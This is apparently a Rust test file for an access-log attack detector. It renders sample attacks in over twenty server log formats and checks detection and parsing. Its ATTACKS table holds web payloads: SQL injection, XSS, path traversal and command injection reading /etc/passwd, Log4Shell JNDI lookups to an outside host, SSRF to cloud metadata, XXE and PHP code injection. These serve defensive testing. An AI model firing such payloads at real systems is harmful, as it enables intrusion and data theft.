//! One attack of each class, written into every kind of access log as its server writes it: the event
//! carries the verdict that the request itself gets. Everyday requests carry none.

#![expect(clippy::unwrap_used, reason = "the whole file is a test")]

use std::collections::BTreeSet;
use std::fmt::Write;
use std::sync::Arc;

use detect::{Engine, Memory};
use inspect::{AccessLog, inspect_access_log};
use model::{Clock, Event, Field, Origin, Record, Text, Timestamp};
use parse::Parser;
use proptest::prelude::*;

/// What a client sent.
#[derive(Clone, Copy, Debug)]
struct Sent<'a> {
    target: &'a str,
    referrer: &'a str,
    agent: &'a str,
}

const REFERRER: &str = "https://www.example.org/start";
const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";

const fn target(target: &str) -> Sent<'_> {
    Sent { target, referrer: REFERRER, agent: AGENT }
}

/// A kind of log.
struct Kind {
    /// The format that reads it, and the dataset or nothing.
    read_as: (&'static str, &'static str),
    /// What the log says of its columns.
    columns: &'static str,
    /// Whether it keeps the referrer and the user agent.
    headers: bool,
    /// Whether all of it can be told again from what the log holds.
    exact: bool,
    write: fn(Sent<'_>) -> String,
}

const W3C: &str = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";
const W3C_OTHER: &str = "date time c-ip cs(User-Agent) cs(Referer) sc-status time-taken cs-uri-query cs-uri-stem cs-method";

const KINDS: &[Kind] = &[
    Kind { read_as: ("access", ""), columns: "", headers: false, exact: false, write: common },
    Kind { read_as: ("access", ""), columns: "", headers: true, exact: true, write: apache },
    Kind { read_as: ("access", ""), columns: "", headers: true, exact: true, write: apache_hosts },
    Kind { read_as: ("access", ""), columns: "", headers: true, exact: true, write: nginx },
    Kind {
        read_as: ("access", ""),
        columns: "",
        headers: true,
        exact: true,
        write: nginx_over_syslog,
    },
    Kind {
        read_as: ("json", "nginx.access"),
        columns: "",
        headers: true,
        exact: true,
        write: nginx_json,
    },
    Kind {
        read_as: ("json", "nginx.access"),
        columns: "",
        headers: true,
        exact: true,
        write: nginx_json_unescaped,
    },
    Kind { read_as: ("w3c", ""), columns: "", headers: true, exact: false, write: iis },
    Kind { read_as: ("w3c", ""), columns: W3C, headers: true, exact: false, write: iis },
    Kind {
        read_as: ("w3c", ""),
        columns: W3C_OTHER,
        headers: true,
        exact: false,
        write: iis_other,
    },
    Kind { read_as: ("haproxy", ""), columns: "", headers: false, exact: false, write: haproxy },
    Kind {
        read_as: ("haproxy", ""),
        columns: "",
        headers: true,
        exact: true,
        write: haproxy_captured,
    },
    Kind {
        read_as: ("haproxy", ""),
        columns: "",
        headers: true,
        exact: true,
        write: haproxy_over_syslog,
    },
    Kind { read_as: ("access", ""), columns: "", headers: true, exact: false, write: traefik },
    Kind {
        read_as: ("json", "traefik.access"),
        columns: "",
        headers: true,
        exact: true,
        write: traefik_json,
    },
    Kind {
        read_as: ("json", "caddy.access"),
        columns: "",
        headers: true,
        exact: true,
        write: caddy,
    },
    Kind { read_as: ("aws_alb", ""), columns: "", headers: true, exact: true, write: alb },
    Kind { read_as: ("aws_alb", ""), columns: "", headers: true, exact: true, write: elb },
    Kind {
        read_as: ("cloudfront", ""),
        columns: "",
        headers: true,
        exact: false,
        write: cloudfront,
    },
    Kind { read_as: ("envoy", ""), columns: "", headers: true, exact: false, write: envoy },
    Kind { read_as: ("envoy", ""), columns: "", headers: true, exact: false, write: istio },
    Kind { read_as: ("squid", ""), columns: "", headers: false, exact: false, write: squid },
];

fn common(sent: Sent<'_>) -> String {
    let target = backslashed(sent.target, true);
    format!(r#"203.0.113.9 - - [21/Nov/2026:06:58:00 +0000] "GET {target} HTTP/1.1" 404 512"#)
}

fn apache(sent: Sent<'_>) -> String {
    let (referrer, agent) = (backslashed(sent.referrer, true), backslashed(sent.agent, true));
    format!(r#"{} "{referrer}" "{agent}""#, common(sent))
}

fn apache_hosts(sent: Sent<'_>) -> String {
    format!("www.example.org:443 {}", apache(sent))
}

fn nginx(sent: Sent<'_>) -> String {
    let target = backslashed(sent.target, false);
    let (referrer, agent) = (backslashed(sent.referrer, false), backslashed(sent.agent, false));
    format!(
        r#"203.0.113.9 - - [21/Nov/2026:06:58:00 +0000] "GET {target} HTTP/1.1" 404 512 "{referrer}" "{agent}" "-""#
    )
}

fn nginx_over_syslog(sent: Sent<'_>) -> String {
    format!("<190>Nov 21 06:58:00 web1 nginx: {}", nginx(sent))
}

fn nginx_json(sent: Sent<'_>) -> String {
    let [target, referrer, agent] = [sent.target, sent.referrer, sent.agent].map(quoted_json);
    format!(
        r#"{{"time":"2026-11-21T06:58:00+00:00","remote_addr":"203.0.113.9","request_method":"GET","request_uri":{target},"status":"404","body_bytes_sent":"512","http_referer":{referrer},"http_user_agent":{agent}}}"#
    )
}

fn nginx_json_unescaped(sent: Sent<'_>) -> String {
    let [target, referrer, agent] =
        [sent.target, sent.referrer, sent.agent].map(|text| backslashed(text, false));
    format!(
        r#"{{"time":"2026-11-21T06:58:00+00:00","remote_addr":"203.0.113.9","request":"GET {target} HTTP/1.1","status":"404","body_bytes_sent":"512","http_referer":"{referrer}","http_user_agent":"{agent}"}}"#
    )
}

fn iis(sent: Sent<'_>) -> String {
    let (path, query) = halves(sent.target);
    let [path, query, referrer, agent] = [path, query, sent.referrer, sent.agent].map(plussed);
    format!(
        "2026-11-21 06:58:00 192.0.2.1 GET {path} {query} 443 - 203.0.113.9 {agent} {referrer} 404 0 2 15"
    )
}

fn iis_other(sent: Sent<'_>) -> String {
    let (path, query) = halves(sent.target);
    let [path, query, referrer, agent] = [path, query, sent.referrer, sent.agent].map(plussed);
    format!("2026-11-21 06:58:00 203.0.113.9 {agent} {referrer} 404 15 {query} {path} GET")
}

fn haproxy(sent: Sent<'_>) -> String {
    haproxy_with("", sent)
}

fn haproxy_captured(sent: Sent<'_>) -> String {
    let (referrer, agent) = (marked(sent.referrer, true), marked(sent.agent, true));
    haproxy_with(&format!("{{www.example.org|{agent}|{referrer}}} {{nginx}} "), sent)
}

fn haproxy_with(captured: &str, sent: Sent<'_>) -> String {
    let target = marked(sent.target, false);
    format!(
        r#"203.0.113.9:51514 [21/Nov/2026:06:58:00.123] web~ app/app1 10/0/30/69/109 404 2750 - - ---- 1/1/1/1/0 0/0 {captured}"GET {target} HTTP/1.1""#
    )
}

fn haproxy_over_syslog(sent: Sent<'_>) -> String {
    format!("<134>Nov 21 06:58:00 lb1 haproxy[12]: {}", haproxy_captured(sent))
}

fn traefik(sent: Sent<'_>) -> String {
    let Sent { target, referrer, agent } = sent;
    format!(
        r#"203.0.113.9 - - [21/Nov/2026:06:58:00 +0000] "GET {target} HTTP/2.0" 404 512 "{referrer}" "{agent}" 49 "web@docker" "http://192.0.2.10:80" 12ms"#
    )
}

fn traefik_json(sent: Sent<'_>) -> String {
    let [target, referrer, agent] = [sent.target, sent.referrer, sent.agent].map(quoted_json);
    format!(
        r#"{{"ClientAddr":"203.0.113.9:39496","ClientHost":"203.0.113.9","DownstreamContentSize":512,"DownstreamStatus":404,"Duration":357313,"RequestHost":"www.example.org","RequestMethod":"GET","RequestPath":{target},"StartUTC":"2026-11-21T06:58:00Z","request_User-Agent":{agent},"request_Referer":{referrer},"time":"2026-11-21T06:58:00Z"}}"#
    )
}

fn caddy(sent: Sent<'_>) -> String {
    let [target, referrer, agent] = [sent.target, sent.referrer, sent.agent].map(quoted_json);
    format!(
        r#"{{"level":"info","ts":1795244280.25,"logger":"http.log.access","msg":"handled request","request":{{"remote_ip":"203.0.113.9","client_ip":"203.0.113.9","proto":"HTTP/2.0","method":"GET","host":"www.example.org","uri":{target},"headers":{{"User-Agent":[{agent}],"Referer":[{referrer}],"Accept":["*/*"]}}}},"duration":0.0027,"size":512,"status":404}}"#
    )
}

fn alb(sent: Sent<'_>) -> String {
    let line = balanced("app/web/490d68", sent);
    format!(
        r#"https {line} arn:aws:elasticloadbalancing:eu-central-1:1:targetgroup/t/7 "Root=1-5" "www.example.org" "-" 1 2026-11-21T06:58:00.186000Z "forward" "-" "-" "192.0.2.10:80" "404" "-" "-""#
    )
}

fn elb(sent: Sent<'_>) -> String {
    balanced("web", sent)
}

fn balanced(name: &str, sent: Sent<'_>) -> String {
    let (target, agent) = (backslashed(sent.target, false), backslashed(sent.agent, false));
    format!(
        r#"2026-11-21T06:58:00.186641Z {name} 203.0.113.9:44740 192.0.2.10:80 0.086 0.048 0.037 404 404 120 57 "GET https://www.example.org:443{target} HTTP/1.1" "{agent}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2"#
    )
}

fn cloudfront(sent: Sent<'_>) -> String {
    let (path, query) = halves(sent.target);
    let [path, query, referrer, agent] = [path, query, sent.referrer, sent.agent].map(encoded);
    format!(
        "2026-11-21\t06:58:00\tCDG50-P2\t703\t203.0.113.9\tGET\td1.cloudfront.net\t{path}\t404\t{referrer}\t{agent}\t{query}\t-\tError\t375WZm==\twww.example.org\thttps\t62\t0.113\t-\tTLSv1.3\tTLS_AES_128_GCM_SHA256\tError\tHTTP/2.0\t-\t-\t51754\t0.113\tError\ttext/plain\t20\t-\t-"
    )
}

fn envoy(sent: Sent<'_>) -> String {
    let Sent { target, agent, .. } = sent;
    format!(
        r#"[2026-11-21T06:58:00.123Z] "GET {target} HTTP/1.1" 404 - 0 512 15 14 "203.0.113.9" "{agent}" "cc21d9b0" "www.example.org" "192.0.2.10:80""#
    )
}

fn istio(sent: Sent<'_>) -> String {
    let Sent { target, agent, .. } = sent;
    format!(
        r#"[2026-11-21T06:58:00.123Z] "GET {target} HTTP/1.1" 404 - via_upstream - "-" 0 512 15 14 "-" "{agent}" "cc21d9b0" "www.example.org" "192.0.2.10:80" outbound|80||web 192.0.2.1:5 192.0.2.2:80 203.0.113.9:39344 - default"#
    )
}

fn squid(sent: Sent<'_>) -> String {
    let target = sent.target.replace(' ', "%20");
    format!(
        "1795244280.123    245 203.0.113.9 TCP_MISS/404 4512 GET http://www.example.org{target} - HIER_DIRECT/198.51.100.7 text/html"
    )
}

/// Gives the path and the query, a dash where there is none.
fn halves(target: &str) -> (&str, &str) {
    target.split_once('?').unwrap_or((target, "-"))
}

/// Escapes as Apache does (short ones too) or nginx.
fn backslashed(text: &str, short: bool) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte {
            b'"' | b'\\' if short => out.extend(['\\', char::from(byte)]),
            b'"' | b'\\' | ..32 | 127.. => write!(out, "\\x{byte:02X}").unwrap(),
            _ => out.push(char::from(byte)),
        }
    }
    out
}

/// Escapes as HAProxy does, in a captured header or in a request.
fn marked(text: &str, captured: bool) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte {
            b'{' | b'|' | b'}' if captured => write!(out, "#{byte:02X}").unwrap(),
            b'"' | b'#' | ..32 | 127.. => write!(out, "#{byte:02X}").unwrap(),
            _ => out.push(char::from(byte)),
        }
    }
    out
}

/// Escapes as IIS does.
fn plussed(text: &str) -> String {
    text.replace(' ', "+")
}

/// Escapes as CloudFront does.
fn encoded(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte {
            ..=32
            | 127..
            | b'<'
            | b'>'
            | b'"'
            | b'#'
            | b'%'
            | b'{'
            | b'}'
            | b'|'
            | b'\\'
            | b'^'
            | b'~'
            | b'['
            | b']'
            | b'`'
            | b'\'' => write!(out, "%{byte:02X}").unwrap(),
            _ => out.push(char::from(byte)),
        }
    }
    out
}

fn quoted_json(text: &str) -> String {
    let mut out = String::from("\"");
    for character in text.chars() {
        match character {
            '"' | '\\' => out.extend(['\\', character]),
            ..' ' => write!(out, "\\u{:04x}", u32::from(character)).unwrap(),
            _ => out.push(character),
        }
    }
    out.push('"');
    out
}

/// Gives the event of a line, inspected.
fn event(kind: &Kind, sent: Sent<'_>) -> Event {
    let received_at = Timestamp::parse("2026-11-21T07:00:00Z").unwrap();
    let columns = Some(kind.columns).filter(|names| !names.is_empty()).map(Arc::from);
    let origin = Origin { clock: Clock::File(received_at), columns, ..Origin::default() };
    let mut event = Parser::default().parse(Record {
        text: Text::from((kind.write)(sent).as_str()),
        received_at,
        origin: Arc::new(origin),
        truncated_bytes: 0,
        escaped_bytes: 0,
    });
    Engine::default().analyse(&mut event, &Memory::new().indicators());
    event
}

fn classes(event: &Event) -> BTreeSet<String> {
    let found = event.get(Field::InspectionClasses);
    found.into_iter().flat_map(model::Value::each).map(|class| class.to_string()).collect()
}

/// What the request itself is, by its sure findings.
fn direct(sent: Sent<'_>) -> BTreeSet<String> {
    let verdict = inspect_access_log(&AccessLog {
        method: "GET",
        target: sent.target,
        referrer: Some(sent.referrer),
        user_agent: Some(sent.agent),
    });
    let sure = verdict.findings.iter().filter(|found| found.score >= inspect::ATTACK_SCORE_MIN);
    sure.map(|finding| finding.class.to_string()).collect()
}

/// The address is the client's. Envoy escapes nothing: where the agent holds what parts two of its words,
/// nobody can tell where the client's addresses end, and none is told.
fn is_the_clients(kind: &Kind, event: &Event, sent: Sent<'_>) -> bool {
    match event.ip(Field::SourceIp) {
        Some(address) => address.to_string() == "203.0.113.9",
        None => kind.read_as.0 == "envoy" && sent.agent.contains("\" \""),
    }
}

/// What was sent is what the event holds, but for what the log itself changes.
fn told_as_sent(kind: &Kind, event: &Event, sent: Sent<'_>) {
    let line = event.original();
    assert_eq!(event.text(Field::EventModule), Some(kind.read_as.0), "{line}");
    assert_eq!(event.text(Field::EventDataset).unwrap_or_default(), kind.read_as.1, "{line}");
    assert_eq!(event.integer(Field::ResponseStatus), Some(404), "{line}");
    assert_eq!(event.text(Field::RequestMethod), Some("GET"), "{line}");
    assert!(is_the_clients(kind, event, sent), "{line}");
    assert_eq!(event.time.to_string().get(..16), Some("2026-11-21T06:58"), "{line}");
    if kind.headers {
        let agent = event.text(Field::UserAgentOriginal).unwrap_or_default();
        let captured = event.get_extra("haproxy.http.request.captured_headers").is_some();
        let same = agent == sent.agent || agent == plussed(sent.agent).replace('+', " ");
        assert!(same || captured, "{agent} of {line}");
    }
}

const ATTACKS: &[(&str, Sent<'_>)] = &[
    ("sql_injection", target("/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20")),
    ("sql_injection", target("/item?id=1'+or+'1'='1")),
    ("sql_injection", Sent { agent: "x' OR 1=1 -- ", ..target("/") }),
    ("cross_site_scripting", target("/s?q=%3Cscript%3Ealert(1)%3C/script%3E")),
    ("cross_site_scripting", target("/s?q=\"><script>alert(1)</script>")),
    ("path_traversal", target("/f?p=../../../../etc/passwd")),
    ("path_traversal", target("/static/..%5c..%5c..%5cwindows%5cwin.ini")),
    ("path_traversal", target("/static/..\\..\\..\\windows\\win.ini")),
    ("command_injection", target("/p?host=127.0.0.1;cat%20/etc/passwd")),
    ("log4shell", Sent { agent: "${jndi:ldap://198.51.100.66/a}", ..target("/") }),
    (
        "log4shell",
        Sent { agent: "\"${jndi:${lower:l}dap://198.51.100.66/a}\" 200 1", ..target("/") },
    ),
    ("log4shell", target("/?x=${jndi:ldap://198.51.100.66/a}")),
    ("template_injection", target("/t?name={{7*7}}")),
    ("nosql_injection", target("/u?name[$ne]=1")),
    ("header_injection", target("/r?u=%0d%0aSet-Cookie:%20a=b")),
    ("server_side_request_forgery", target("/f?url=http://169.254.169.254/latest/meta-data/")),
    (
        "xml_external_entity",
        target("/x?d=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E"),
    ),
    ("ldap_injection", target("/l?user=*)(uid=*))(|(uid=*")),
    ("code_injection", target("/c?x=%3C?php%20system('id');?%3E")),
    (
        "deserialization",
        target("/d?o=O:8:%22stdClass%22:1:{s:4:%22file%22;s:11:%22/etc/passwd%22;}"),
    ),
    ("server_side_include", target("/s?q=%3C!--%23exec%20cmd=%22id%22--%3E")),
    ("scanner", Sent { agent: "sqlmap/1.8.4#stable (https://sqlmap.org)", ..target("/") }),
];

#[test]
fn an_attack_is_the_same_in_every_log() {
    for (class, sent) in ATTACKS {
        let direct = direct(*sent);
        assert!(direct.contains(*class), "{class} is not found in {sent:?}: {direct:?}");
        let in_agent = sent.agent != AGENT;
        for kind in KINDS.iter().filter(|kind| kind.headers || !in_agent) {
            let event = event(kind, *sent);
            told_as_sent(kind, &event, *sent);
            let found = classes(&event);
            // CloudFront encodes once more, and what is encoded twice is the likelier meant ill.
            let more = kind.read_as.0 == "cloudfront" && found.is_superset(&direct);
            assert!(found == direct || more, "{class}: {found:?} in {}", event.original());
        }
    }
}

#[test]
fn everyday_requests_are_no_attack_in_any_log() {
    let everyday = [
        target("/"),
        target("/index.html"),
        target("/search?q=caf%C3%A9+and+tea&page=2"),
        target("/shop/item-42?colour=blue&size=10%25"),
        target("/static/app.3f2a1c.js?v=1.2.3"),
        target("/o'brien?name=O%27Brien"),
        target("/api/v1/users/12/orders?from=2026-11-01T00:00:00Z&to=2026-11-21"),
        target("/redirect?to=https%3A%2F%2Fwww.example.org%2Fhome%3Fa%3Db"),
        Sent { agent: "curl/8.5.0", referrer: "-", ..target("/feed.xml") },
        Sent { referrer: "https://www.example.com/?q=union+and+select+committee", ..target("/a") },
    ];
    for sent in everyday {
        for kind in KINDS {
            let event = event(kind, sent);
            told_as_sent(kind, &event, sent);
            assert_eq!(classes(&event), BTreeSet::new(), "{}", event.original());
        }
    }
}

/// What begins or stands in the lines of other logs.
const PHRASES: &[&str] = &[
    " TLS Auth Error: x",
    "LOG:  x",
    "FATAL:  password authentication failed for user \"x\"",
    " [Note] ",
    " Query\t",
    "CEF:0|a|b|c|d|e|f|",
    " IN=eth0 SRC=192.0.2.1 DST=192.0.2.2 ",
    " type=USER_LOGIN msg=audit(1795244280.123:1): ",
    " pam_unix(sshd:auth): authentication failure; rhost=192.0.2.1 user=root",
    "Failed password for root from 192.0.2.1 port 22 ssh2",
    " %ASA-6-302013: Built ",
    ",TRAFFIC,end,",
    " app[12]: ",
    "app: ",
    " [Client 192.0.2.1] ",
    " 1/2 0/0 ",
    "@cee: {",
    "[21/Nov/2025:06:58:00 +0000] ",
    "</Event>",
];

/// Texts that a client may send in a header: all that HTTP lets through, quotes and pretended fields
/// among them.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("\" 200 1 \"-\" \"".to_owned()),
        Just("HTTP/1.1\" 200 5 ".to_owned()),
        Just("\\\"".to_owned()),
        Just("\\".to_owned()),
        Just("\\x22".to_owned()),
        Just("} {a|b} \"GET /fake HTTP/1.1\"".to_owned()),
        Just("#22#5c%22%0d%0a".to_owned()),
        Just("200 0 0 15".to_owned()),
        Just("{prog[12]: ".to_owned()),
        Just("[12]: ".to_owned()),
        // What other logs are known by.
        prop::sample::select(PHRASES.to_vec()).prop_map(str::to_owned),
        Just("\",\"status\":200,\"x\":\"".to_owned()),
        Just("${jndi:ldap://x/}".to_owned()),
        "[ -~]{0,6}",
    ];
    prop::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
}

proptest! {
    /// Whatever a client writes into its headers and its query, what the server wrote stays the server's.
    #[test]
    fn no_text_of_a_client_shifts_the_servers_words(
        query in hostile(),
        agent in hostile(),
        referrer in hostile(),
    ) {
        // A target holds no spaces, and what is empty is a dash.
        let asked = ["/a?", &query.replace(' ', "")].concat();
        let filled = |text: &str| if text.trim().is_empty() { "x".to_owned() } else { text.trim().to_owned() };
        let (agent, referrer) = (filled(&agent), filled(&referrer));
        let sent = Sent { target: &asked, referrer: &referrer, agent: &agent };
        for kind in KINDS {
            let event = event(kind, sent);
            let line = event.original();
            prop_assert_eq!(event.text(Field::EventModule), Some(kind.read_as.0), "{}", line);
            prop_assert_eq!(event.integer(Field::ResponseStatus), Some(404), "{}", line);
            prop_assert_eq!(event.text(Field::RequestMethod), Some("GET"), "{}", line);
            prop_assert!(is_the_clients(kind, &event, sent), "{}", line);
            prop_assert_eq!(event.text(Field::UrlPath), Some("/a"), "{}", line);
        }
    }

    /// What a log escapes is undone once: no more, and no less.
    #[test]
    fn what_was_sent_is_what_is_told(query in "[!-~é]{0,24}", agent in "[!-~][ -~é]{0,24}[!-~]") {
        let asked = ["/a?b=", &query].concat();
        let sent = Sent { target: &asked, referrer: REFERRER, agent: &agent };
        for kind in KINDS.iter().filter(|kind| kind.exact) {
            let event = event(kind, sent);
            let line = event.original();
            prop_assert_eq!(event.text(Field::UrlOriginal), Some(asked.as_str()), "{}", line);
            let captured = event.get_extra("haproxy.http.request.captured_headers").is_some();
            if !captured {
                prop_assert_eq!(event.text(Field::UserAgentOriginal), Some(agent.as_str()), "{}", line);
            }
        }
    }
}
